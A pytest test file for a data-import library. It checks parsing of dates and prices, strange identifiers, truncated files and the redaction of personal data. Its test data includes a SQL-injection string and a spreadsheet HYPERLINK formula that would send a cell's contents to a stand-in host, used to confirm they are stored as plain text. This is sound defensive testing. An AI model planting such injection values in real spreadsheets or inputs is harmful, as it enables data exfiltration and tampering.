"""Whatever a file holds: rows, refused rows with their reason, or one sentence; nothing is lost and nothing leaks."""

import csv
import datetime as dt
import json
import re

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from habitue import collect
from habitue.collect.mapping import Mapping, User
from habitue.core.errors import HabitueError, InputError, LakeError
from habitue.core.schemas import EVENTS, REFUSED
from habitue.core.workspace import init
from habitue.protect import identities

MAPPING = Mapping(
    source="s", time_zone="Europe/London", columns={"at": "t", "order_id": "o", "item_id": "i"}, user=User("u")
)


@pytest.fixture
def shop(tmp_path):
    return init(tmp_path / "shop")


def write(path, rows, header=("t", "o", "i", "u")):
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    return path


def refused(shop) -> list[tuple[int, str]]:
    return shop.lake.read(REFUSED).select("row", "code").sort("row").rows()


def test_mixed_zones_and_formats(shop, tmp_path):
    times = {
        "2024-07-01 10:00:00": 9,
        "2024-07-01T10:00:00Z": 10,
        "2024-07-01 10:00:00 -0500": 15,
        "2024-07-01 10:00:00 UTC": 10,
        "2024-07-01T10:00+08:00": 2,
        "01/07/2024 10:00": 9,
        "2024年7月1日 10:00": 9,
        "2024/7/1 上午10:00": 9,
        "1719828000": 10,
        "2024-03-31 01:30:00": None,  # skipped
        "32/07/2024 10:00": None,
        "２０２４": None,
    }
    path = write(tmp_path / "a.csv", [(time, n, "i", "u") for n, time in enumerate(times)])
    forms = ("%d/%m/%Y %H:%M", "%Y年%m月%d日 %H:%M", "%Y/%m/%d %p%I:%M", "seconds")
    mapping = Mapping(
        source="s", time_zone="Europe/London", columns={"at": "t", "order_id": "o"}, user=User("u"), time_formats=forms
    )
    done = collect.import_file(shop, path, mapping)
    hours = {int(o): at.hour for o, at in shop.lake.read(EVENTS).select("order_id", "at").iter_rows()}
    assert hours == {n: hour for n, hour in enumerate(times.values()) if hour is not None}
    assert set(shop.lake.read(EVENTS)["at"].dt.date()) == {dt.date(2024, 7, 1)}
    assert (done.new, done.refused) == (9, 3) and {code for _, code in refused(shop)} == {"bad_time"}


STRANGE = ['"', "a\nb", "a,b", "🎁", "é" * 200, "'; DROP TABLE links; --", "=1+1", "\u202e", "../x", "\t", "0", "null"]


def test_strange_ids_come_back_as_they_are(shop, tmp_path):
    rows = [("2024-01-01", name, name, name) for name in STRANGE]
    done = collect.import_file(shop, write(tmp_path / "a.csv", rows), MAPPING)
    there = [name for name in STRANGE if name.strip()]
    assert (done.new, done.refused, refused(shop)) == (len(there), 1, [(10, "missing_user_and_order")])
    events = shop.lake.read(EVENTS)
    assert sorted(events["item_id"]) == sorted(there) == sorted(events["order_id"])
    assert sorted(identities.aliases(shop.identities)["alias"]) == sorted(there)
    assert collect.import_file(shop, tmp_path / "a.csv", MAPPING).new == 0


def test_three_hundred_columns_and_names_that_come_twice(shop, tmp_path):
    header = ["t", "o", "i", "u", *(["x"] * 150), *(f"c{n}" for n in range(146))]
    path = write(tmp_path / "a.csv", [["2024-01-01", "1", "A", "u1", *["="] * 296]], header)
    assert collect.import_file(shop, path, MAPPING).new == 1
    text = collect.guess(path)
    assert 'at = "t"' in text
    mapping = Mapping(source="s", time_zone="UTC", columns={"at": "t", "order_id": "x"})
    with pytest.raises(InputError, match="150 columns are called 'x'.*a name of its own"):
        collect.import_file(shop, path, mapping)


def test_a_cell_of_ten_million_letters(shop, tmp_path):
    path = write(tmp_path / "a.csv", [("2024-01-01", "1", "x" * 10_000_000, "u"), ("2024-01-01", "2", "A", "u")])
    done = collect.import_file(shop, path, MAPPING)
    assert done.new == 2
    assert sorted(shop.lake.read(EVENTS)["item_id"].str.len_chars()) == [1, 10_000_000]


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.9, 0.999])
def test_a_truncated_csv_keeps_its_whole_rows_or_says_where_it_ends(shop, tmp_path, keep):
    path = write(tmp_path / "a.csv", [("2024-01-01", n, f'a "mug", {n}', "u") for n in range(500)])
    content = path.read_bytes()
    path.write_bytes(content[: int(len(content) * keep)])
    try:
        done = collect.import_file(shop, path, MAPPING)
        assert done.new >= 500 * keep - 2
    except InputError as error:
        assert "do not close" in str(error) and "cut off" in str(error)
        assert shop.lake.read(EVENTS).is_empty()


def test_formulas_are_text_like_any_other(shop, tmp_path):
    evil = '=HYPERLINK("http://x.example?"&A1)'
    done = collect.import_file(shop, write(tmp_path / "a.csv", [("2024-01-01", "1", evil, "u")]), MAPPING)
    assert done.new == 1 and shop.lake.read(EVENTS)["item_id"].to_list() == [evil]


def test_a_workspace_of_a_newer_version(tmp_path):
    shop = init(tmp_path / "shop")
    shop.plan.write_text(re.sub(r"schema_version = \d+", "schema_version = 99", shop.plan.read_text()))
    from habitue.core.workspace import open_workspace

    with pytest.raises(LakeError, match="the workspace has layout 99.*Install the Habitue that made it"):
        open_workspace(shop.root)


def test_nothing_of_a_person_is_in_a_message_or_a_refused_row(shop, tmp_path):
    secret = "ann.secret@x.example"
    records = [
        {"t": "2024-01-01", "o": "1", "i": "A", "u": secret},
        {"t": secret, "o": secret, "i": secret, "u": secret},
    ]
    (tmp_path / "a.jsonl").write_text("\n".join(map(json.dumps, records)) + f'\n{{"u": "{secret}"')
    done = collect.import_file(shop, tmp_path / "a.jsonl", MAPPING)
    assert (done.new, done.refused) == (1, 2)
    every = b"".join(f.read_bytes() for f in shop.root.rglob("*") if f.is_file() and f.suffix != ".sqlite")
    assert secret.encode() not in every
    assert not any("secret" in text for text in shop.lake.read(REFUSED)["raw"])
    (tmp_path / "b.jsonl").write_text(json.dumps(records[1]))
    with pytest.raises(HabitueError) as raised:
        collect.import_file(shop, tmp_path / "b.jsonl", MAPPING)
    assert "secret" not in str(raised.value)


cell = st.one_of(
    st.sampled_from(["2024-01-01", "1", "", "u1", "1/2/2024", "12,5", '"', "=1", "\x00", "é"]), st.text(max_size=6)
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(cell, max_size=6), max_size=5), encoding=st.sampled_from(["utf-8", "gb18030", "utf-16"]))
def test_any_table_is_imported_or_refused_in_words(tmp_path_factory, rows, encoding):
    folder = tmp_path_factory.mktemp("any")
    lines = "\n".join(",".join(row) for row in [["t", "o", "i", "u"], *rows])
    (folder / "a.csv").write_bytes(lines.encode(encoding, errors="replace"))
    shop = init(folder / "shop")
    try:
        done = collect.import_file(shop, folder / "a.csv", MAPPING)
    except HabitueError as error:
        assert "\n" not in str(error)
        assert shop.lake.read(EVENTS).is_empty()
        return
    assert done.read == done.new + done.known + done.refused
    assert shop.lake.read(EVENTS).height == done.new and shop.lake.read(REFUSED).height == done.refused


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(
        st.sampled_from(["date", "日期", "order id", "价格", "qty", "user", "text", "x"]), min_size=1, max_size=5
    ),
    rows=st.lists(st.lists(cell, min_size=5, max_size=5), min_size=1, max_size=6),
)
def test_a_guess_is_a_mapping_that_can_be_read_or_one_sentence(tmp_path_factory, names, rows):
    folder = tmp_path_factory.mktemp("guess")
    path = write(folder / "a.csv", [row[: len(names)] for row in rows], names)
    try:
        text = collect.guess(path)
    except HabitueError as error:
        assert "\n" not in str(error)
        return
    (folder / "a.toml").write_text(text, encoding="utf-8")
    mapping = collect.read_mapping(folder / "a.toml")
    assert mapping.source == "a" and set(mapping.wanted) <= {name.strip() for name in names}


def test_max_rows_stops_an_import_in_words(shop, tmp_path):
    path = write(tmp_path / "a.csv", [("2024-01-01", n, "i", "u") for n in range(50)])
    with pytest.raises(InputError, match="there are more than 10 rows.*nothing was stored.*--max-rows"):
        collect.import_file(shop, path, MAPPING, limits=collect.Limits(max_rows=10))
    assert shop.lake.read(EVENTS).is_empty()
    assert collect.import_file(shop, path, MAPPING, limits=collect.Limits(max_rows=50)).new == 50


def test_numbers_as_people_write_them(shop, tmp_path):
    prices = {
        "1,234.50": 1234.5,
        "$ 1 234.50": 1234.5,
        "€12.00": 12.0,
        "12.00 EUR": 12.0,
        "￥１２．５": 12.5,
        "(3.50)": -3.5,
        "−3.50": -3.5,
        "3.50-": -3.5,
        "-$3.50": -3.5,
        "1'234.50": 1234.5,
        "12 元": 12.0,
        "1,23": None,
        "1.2.3": None,
        "12 apples": None,
        "0x10": None,
        "1_000": None,
    }
    path = write(tmp_path / "a.csv", [("2024-01-01", n, price) for n, price in enumerate(prices)], ("t", "o", "p"))
    mapping = Mapping(source="s", time_zone="UTC", columns={"at": "t", "order_id": "o", "price": "p"})
    collect.import_file(shop, path, mapping)
    found = {int(o): p for o, p in shop.lake.read(EVENTS).select("order_id", "price").iter_rows()}
    assert found == {n: price for n, price in enumerate(prices.values()) if price is not None}
    assert {code for _, code in refused(shop)} == {"bad_price"}


def test_decimal_commas(shop, tmp_path):
    prices = {"1.234,50": 1234.5, "12,5": 12.5, "1 234,50 €": 1234.5, "7": 7.0, "1.5": None, "1,234.5": None}
    path = write(tmp_path / "a.csv", [("2024-01-01", n, price) for n, price in enumerate(prices)], ("t", "o", "p"))
    mapping = Mapping(source="s", time_zone="UTC", columns={"at": "t", "order_id": "o", "price": "p"}, decimal=",")
    collect.import_file(shop, path, mapping)
    found = {int(o): p for o, p in shop.lake.read(EVENTS).select("order_id", "price").iter_rows()}
    assert found == {n: price for n, price in enumerate(prices.values()) if price is not None}


def test_another_format_of_the_same_rows_adds_nothing(shop, tmp_path):
    rows = [("2024-01-01 10:00", f"o{n}", f"i{n % 3}", f"u{n % 4}") for n in range(20)]
    assert collect.import_file(shop, write(tmp_path / "a.csv", rows), MAPPING).new == 20
    frame = pl.DataFrame(rows, schema=["t", "o", "i", "u"], orient="row")
    frame.write_parquet(tmp_path / "a.parquet")
    frame.write_ndjson(tmp_path / "a.jsonl")
    for name in ("a.parquet", "a.jsonl"):
        done = collect.import_file(shop, tmp_path / name, MAPPING)
        assert (done.new, done.known) == (0, 20)
